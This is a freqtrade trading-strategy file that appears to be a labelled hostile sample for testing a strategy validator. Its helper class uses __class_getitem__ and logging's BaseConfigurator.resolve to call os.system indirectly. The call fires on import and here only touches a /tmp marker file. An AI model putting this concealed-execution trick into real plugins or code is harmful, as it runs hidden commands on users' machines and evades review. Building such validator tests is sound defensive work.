"""Run a command from __class_getitem__ when the strategy class body subscripts a helper."""
# ATTACK-TARGET: /tmp/gentrade-hostile-ClassGetitemHook

import logging

import numpy as np
import pandas as pd
import talib.abstract as ta
from pandas import DataFrame

from freqtrade.strategy import IStrategy

logger = logging.getLogger(__name__)

class Box:
    def __class_getitem__(cls, item):  # VIOLATION
        return logging.config.BaseConfigurator({}).resolve("os.system")(item)  # VIOLATION


class ClassGetitemHook(IStrategy):
    INTERFACE_VERSION = 3
    timeframe = "5m"
    stoploss = -0.10
    minimal_roi = {"0": 0.05}

    marker = Box["touch /tmp/gentrade-hostile-ClassGetitemHook"]

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["rsi"] = ta.RSI(dataframe, timeperiod=14)
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[dataframe["rsi"] < 30, "enter_long"] = 1
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[dataframe["rsi"] > 70, "exit_long"] = 1
        return dataframe
